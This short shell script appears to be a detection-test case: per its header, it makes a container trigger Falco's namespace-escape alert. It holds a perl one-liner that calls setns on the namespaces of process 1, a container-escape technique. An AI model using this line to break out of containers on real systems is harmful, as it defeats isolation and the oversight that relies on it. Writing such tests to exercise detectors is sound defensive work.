#!/bin/sh
# case: T1611-setns-by-perl
# technique: Escape: setns to the namespaces of process 1
# source: falcosecurity/event-generator syscall.ChangeThreadNamespace
# needs: perl
# expect: escape priv
# where: container
# image: debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
need perl
[ "$(uname -m)" = x86_64 ] || exit 77
perl -e 'for(qw(mnt net pid ipc uts)){open F,"<","/proc/1/ns/$_" or next;syscall(308,fileno(F),0)}'; true
exit 0
